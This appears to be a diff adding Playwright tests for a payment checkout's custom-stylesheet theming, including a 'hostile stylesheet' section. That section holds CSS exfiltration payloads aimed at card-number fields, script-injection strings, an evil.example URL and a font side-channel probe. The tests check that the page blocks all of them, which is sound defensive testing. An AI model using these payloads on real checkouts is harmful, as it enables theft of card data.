@@ -1,0 +1,181 @@
+import { randomUUID } from 'node:crypto';
+import type { Page } from '@playwright/test';
+import { openPaymentApi } from '../stack/payment-api.ts';
+import { expect, test } from '../steps/test.ts';
+
+const CSS = { 'content-type': 'text/css' };
+const GREEN = 'rgb(10, 119, 51)';
+const STYLE = ':root { --accent: rgb(10 119 51); --radius: 0 } [part="leave"] { letter-spacing: 3px }';
+
+const readColour = (page: Page, selector = '[part="pay-button"]') =>
+  page.locator(selector).evaluate((element) => getComputedStyle(element).backgroundColor);
+
+test('a link’s stylesheet restyles the hosted page by properties and parts', async ({
+  page,
+  pageServer,
+  request,
+}) => {
+  const custom_css = pageServer.publish({ body: STYLE, headers: CSS });
+  const api = await openPaymentApi(request);
+  const { PaymentUrl } = await api.createLink({ Type: 'standard', Metadata: { custom_css } });
+  await page.goto(PaymentUrl);
+  await expect.poll(() => readColour(page)).toBe(GREEN);
+  await expect(page.locator('[part="input"]').first()).toHaveCSS('border-radius', '0px');
+  await expect(page.locator('[part="leave"]')).toHaveCSS('letter-spacing', '3px');
+});
+
+test('the script’s stylesheet counts before the link’s, can be changed in place, and taken back', async ({
+  page,
+  host,
+  pageServer,
+  request,
+}) => {
+  const api = await openPaymentApi(request);
+  const linkCss = pageServer.publish({ body: ':root { --accent: rgb(1 2 3) }', headers: CSS });
+  const { PaymentUrl } = await api.createLink({ Metadata: { custom_css: linkCss } });
+  await host.open();
+  await host.mount({ checkoutUrl: PaymentUrl, theme: { customCss: STYLE } });
+  await expect.poll(() => host.readEvents()).toEqual([['ready']]);
+  const button = host.frame().locator('[part="pay-button"]');
+  await expect(button).toHaveCSS('background-color', GREEN);
+  await host.frame().locator('[autocomplete~="cc-number"]').fill('4111');
+
+  const update = (customCss: string) =>
+    page.evaluate((css) => window.checkouts[0].update({ theme: { customCss: css } }), customCss);
+  await update(pageServer.publish({ body: ':root { --accent: rgb(4 5 6) }', headers: CSS }));
+  await expect(button).toHaveCSS('background-color', 'rgb(4, 5, 6)');
+  await update('');
+  await expect(button).toHaveCSS('background-color', 'rgb(1, 2, 3)');
+  await expect(host.frame().locator('[autocomplete~="cc-number"]')).toHaveValue('4111');
+});
+
+test.describe('in the dark', () => {
+  test.use({ colorScheme: 'dark' });
+
+  test('a shop that is light says so, and the whole checkout is light', async ({ host, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink();
+    await host.open();
+    await host.mount({ checkoutUrl: PaymentUrl, theme: { customCss: ':root { color-scheme: light }' } });
+    await expect(host.frame().locator('body')).toHaveCSS('background-color', 'rgb(255, 255, 255)');
+    await expect(host.frame().locator('body')).toHaveCSS('color', 'rgb(21, 26, 35)');
+  });
+
+  test('a shop that says nothing is light, and so is the checkout', async ({ host, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink();
+    await host.open();
+    await host.mount({ checkoutUrl: PaymentUrl });
+    await expect(host.frame().locator('body')).toHaveCSS('background-color', 'rgb(255, 255, 255)');
+  });
+
+  test('in a shop that follows the device the checkout is dark', async ({ host, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink();
+    await host.open({ before: "document.documentElement.style.colorScheme = 'light dark';" });
+    await host.mount({ checkoutUrl: PaymentUrl });
+    await expect(host.frame().locator('body')).toHaveCSS('background-color', 'rgb(23, 28, 37)');
+  });
+});
+
+test.describe('a hostile stylesheet', () => {
+  // The browser reports what the policy blocks, and the page what it does not load: that is the point.
+  test.use({
+    allowedComplaint:
+      /Content Security Policy|ServicePay: the stylesheet|net::ERR|Unsafe attempt to load URL|@import rules|404/,
+  });
+
+  /** Everything that a rule could use to ask somebody for something. */
+  const spy = (host: string) => `@import url("${host}/import.css");
+    @font-face { font-family: spy; src: url("${host}/font.woff2"); unicode-range: U+30-39 }
+    input[value^="4"], input:valid, #card_number:focus { background: url("${host}/value.png") }
+    body { font-family: spy, sans-serif; background-image: url("${host}/back.png"), image-set("${host}/set.png" 1x);
+      cursor: url("${host}/cursor.png"), auto; list-style-image: url("${host}/list.png") }
+    [part="pay-button"]::before { content: url("${host}/content.png") }
+    [part="panel"] { mask-image: url("${host}/mask.svg"); filter: url("${host}/filter.svg#f") }`;
+
+  for (const way of ['the link’s URL', 'the script’s text'] as const) {
+    test(`as ${way} asks nobody for anything`, async ({ page, host, pageServer, request }) => {
+      // The same machine under a name that is nobody's, and really asked: browsers also tell of requests that they stop.
+      const { port } = new URL(pageServer.publish({ body: '' }));
+      const stranger = `http://e${randomUUID().slice(0, 4)}.localhost:${port}`;
+      const linkCss = pageServer.publish({ body: spy(stranger), headers: CSS });
+      const api = await openPaymentApi(request);
+      const isLink = way === 'the link’s URL';
+      const { PaymentUrl } = await api.createLink(isLink ? { Metadata: { custom_css: linkCss } } : {});
+      await host.open();
+      // As long as the wire carries it.
+      const theme = { customCss: spy(stranger).replace(/\s+/g, ' ') };
+      expect(theme.customCss.length).toBeLessThan(1_000);
+      await host.mount({ checkoutUrl: PaymentUrl, ...(!isLink && { theme }) });
+      await expect.poll(() => host.readEvents()).toEqual([['ready']]);
+      await host.frame().locator('[autocomplete~="cc-number"]').fill('4111 1111 1111 1111');
+      await page.evaluate(
+        () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
+      );
+      // From the shop's own page, which has no policy, the same name is asked.
+      await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${stranger}/control`);
+      const asked = pageServer.readRequests().filter((url) => url.startsWith(stranger));
+      expect(asked).toEqual([`${stranger}/control`]);
+    });
+  }
+
+  test('that runs nothing and is nowhere known is no stylesheet', async ({ page, host, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink();
+    await host.open();
+    for (const customCss of [
+      '</style><script>top.hacked = 1</script>',
+      'javascript:top.hacked=1',
+      'https://evil.example/a.css',
+      'http://shop.example/a.css',
+    ]) {
+      await host.mount({ checkoutUrl: PaymentUrl, theme: { customCss } });
+    }
+    await expect.poll(async () => (await host.readEvents()).length).toBe(4);
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+    // Those of the page itself, and none else.
+    await expect(host.frame().locator('script[src]:not([src^="/page/"])')).toHaveCount(0);
+  });
+
+  test('moves the shop’s page by no digit that a keyboard composes', async ({ page, host, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink({ PaymentMethods: ['card'] });
+    const customCss = `@font-face { font-family: "digit\u017f"; src: local("DejaVu Sans Bold"), local("DejaVu Sans");
+      unicode-range: U+39; font-weight: 100 400 } :root { --ink: rgb(1 2 3) }`;
+    await host.open();
+    await host.mount({ checkoutUrl: PaymentUrl, width: '3000px', theme: { customCss } });
+    const number = host.frame().locator('[autocomplete~="cc-number"]');
+    await expect(number).toHaveCSS('color', 'rgb(1, 2, 3)');
+    const left = await number.evaluate((input) => input.getBoundingClientRect().left);
+    const [, frame] = page.frames();
+    const context = page.context();
+    // Not every Chromium gives a frame of another site a process, and so a session, of its own.
+    const session = await context.newCDPSession(frame ?? page).catch(() => context.newCDPSession(page));
+
+    async function compose(text: string): Promise<number> {
+      await number.fill('');
+      await number.focus();
+      await page.evaluate((place) => {
+        const box = document.querySelector('iframe')?.parentElement as HTMLElement;
+        Object.assign(box.style, { width: '60px', overflow: 'auto' });
+        box.scrollLeft = place;
+      }, left);
+      const place = { selectionStart: text.length, selectionEnd: text.length };
+      await session.send('Input.imeSetComposition', { text, ...place });
+      await expect(number).toHaveValue(text);
+      const readScroll = () =>
+        page.evaluate(() => document.querySelector('iframe')?.parentElement?.scrollLeft ?? 0);
+      await expect.poll(readScroll).toBeGreaterThan(left);
+      await page.evaluate(
+        () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
+      );
+      return readScroll();
+    }
+
+    expect(await compose('1111111111111111')).toBe(await compose('9999999999999999'));
+  });
+
+  test('that never answers holds up nobody', async ({ page, host, pageServer, request }) => {
+    const { PaymentUrl } = await (await openPaymentApi(request)).createLink();
+    await page.route('**/stylesheet?*', () => {});
+    await host.open();
+    await host.mount({ checkoutUrl: PaymentUrl, theme: { customCss: pageServer.publish({ body: STYLE }) } });
+    await expect.poll(() => host.readEvents()).toEqual([['ready']]);
+  });
+});
